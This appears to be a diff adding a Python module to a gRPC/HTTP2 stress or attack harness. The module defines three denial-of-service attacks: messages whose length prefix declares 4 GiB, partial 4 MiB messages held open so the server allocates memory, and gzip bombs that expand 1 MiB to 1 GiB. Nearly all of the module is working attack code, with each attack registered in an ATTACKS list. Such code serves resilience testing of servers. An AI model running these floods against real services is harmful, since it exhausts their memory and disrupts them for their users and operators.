@@ -1,0 +1,93 @@
+"""Messages that promise more than they are, or are more than they promise."""
+
+import functools
+import gzip
+import struct
+
+from attack import Attack
+from attacker import LISTEN
+from effort import Effort
+from http2_bytes import (CLASSIFY, END_STREAM, PREFACE, data, headers, pieces,
+                         settings)
+from questions import begun, prefixed, streams
+
+HELLO = PREFACE + settings()
+CONNECTIONS = 64
+LIMIT = 4 << 20  # of the server's, for one message
+COMPRESSED = 1
+GZIPPED = [*CLASSIFY, ("grpc-encoding", "gzip")]
+
+# --- Declared -----------------------------------------------------------------
+
+
+def declared(size, begin, calls):
+    """Messages of `size` bytes by their prefix, of which `begin` come."""
+    message = struct.pack(">BL", 0, size) + bytes(begin)
+    return b"".join(begun(stream) + b"".join(data(stream, piece, 0)
+                                             for piece in pieces(message))
+                    for stream in streams(calls))
+
+
+def four_gigabytes(crowd, scale):
+    effort = Effort(scale.messages, scale.seconds)
+    blob = HELLO + declared(0xFFFFFFFF, 1000, calls=50)
+
+    def script(me):
+        yield blob
+        effort.add(50)
+        yield 0.1
+
+    crowd.run(effort.repeat(script), CONNECTIONS)
+    return f"{effort.done:,} messages of 4 GiB by their prefix"
+
+
+def just_the_limit(crowd, scale):
+    """A quarter of each comes, so that the server has given it memory."""
+    seconds = scale.seconds
+    blob = HELLO + declared(LIMIT, LIMIT // 4, calls=8)
+
+    def script(me):
+        yield blob
+        yield 2 * seconds
+
+    crowd.run([script] * CONNECTIONS, CONNECTIONS)
+    return f"{CONNECTIONS} x 8 messages of 4 MiB, of which 1 MiB comes"
+
+
+# --- Compressed ---------------------------------------------------------------
+
+
+@functools.cache
+def bomb():
+    """1 GiB of zeros in 1 MiB."""
+    return gzip.compress(bytes(64 << 20)) * 16
+
+
+def bombed(fields):
+    message = prefixed(bomb(), COMPRESSED)
+    return (HELLO + headers(1, fields)
+            + b"".join(data(1, piece, 0) for piece in pieces(message))
+            + data(1, b"", END_STREAM))
+
+
+def gzip_bombs(crowd, scale):
+    effort = Effort(scale.messages, scale.seconds)
+
+    def script(blob):
+        def run(me):
+            yield blob
+            effort.add()
+            me.half_close()
+            yield LISTEN
+        return run
+
+    scripts = [script(bombed(fields)) for fields in (CLASSIFY, GZIPPED)]
+    crowd.run(effort.repeat(*scripts), at_once=8)
+    return f"{effort.done:,} gzip bombs of 1 GiB, every second one declared"
+
+
+ATTACKS = [
+    Attack("four_gigabytes", four_gigabytes),
+    Attack("just_the_limit", just_the_limit, network_mib=64),
+    Attack("gzip_bombs", gzip_bombs),
+]
